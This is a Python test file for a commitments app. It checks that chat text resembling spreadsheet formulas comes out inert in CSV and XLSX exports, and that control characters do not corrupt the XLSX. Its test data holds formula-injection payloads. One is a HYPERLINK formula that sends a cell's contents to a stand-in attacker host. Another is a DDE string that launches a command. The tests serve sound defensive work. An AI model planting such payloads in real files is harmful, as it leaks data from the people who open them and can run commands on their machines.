"""Text typed in the chat that looks like a spreadsheet formula is exported as text: read back from the
CSV and XLSX files the export service writes, every such cell is inert and its text is kept."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from commitments import services
from commitments.db import Database
from commitments.export import service
from commitments.export.tabular import read_csv, read_xlsx
from commitments.services import NewCommitment
from tests.use_case import use_case

TEAM = -1001
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _fill(db: Database) -> None:
    for text in HOSTILE:
        use_case(
            db,
            services.add_commitment,
            NewCommitment(title=text, quote=text, owner="anna", team=TEAM),
            by="=evil()",
        )


def test_csv_cells_that_look_like_formulas_start_with_a_quote(db: Database) -> None:
    _fill(db)
    data = use_case(db, service.export_table, TEAM, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    header, body = rows[0], rows[1:]
    titles = [row[header.index("Omschrijving")] for row in body]
    assert sorted(title[1:] for title in titles) == sorted(text.strip() for text in HOSTILE)
    for cell in [cell for row in body for cell in row]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_has_no_formula_cells_and_keeps_the_text(db: Database) -> None:
    _fill(db)
    data = use_case(db, service.export_table, TEAM, "xlsx")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]  # not data_only: formulas would show as such
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    titles = {str(row[2].value) for row in sheet.iter_rows(min_row=2)}
    assert {text.strip() for text in HOSTILE} <= {title.strip() for title in titles}


@pytest.mark.parametrize("table_format", ["csv", "xlsx"])
def test_hostile_titles_read_back_as_they_were_typed(db: Database, table_format: str) -> None:
    _fill(db)
    data = use_case(db, service.export_table, TEAM, table_format)  # type: ignore[arg-type]
    sheet = read_csv(data) if table_format == "csv" else read_xlsx(data)
    assert sorted(str(row.cells["title"]) for row in sheet.rows) == sorted(text.strip() for text in HOSTILE)


def test_control_characters_typed_in_the_chat_do_not_break_the_xlsx(db: Database) -> None:
    stored = use_case(
        db, services.add_commitment, NewCommitment(title="Brief over\x01 X\x1f", team=TEAM), by="t"
    )
    assert "\x01" in stored.title
    sheet = read_xlsx(use_case(db, service.export_table, TEAM, "xlsx"))
    assert [row.cells["title"] for row in sheet.rows] == [
        stored.title.replace("\x01", "\ufffd").replace("\x1f", "\ufffd")
    ]
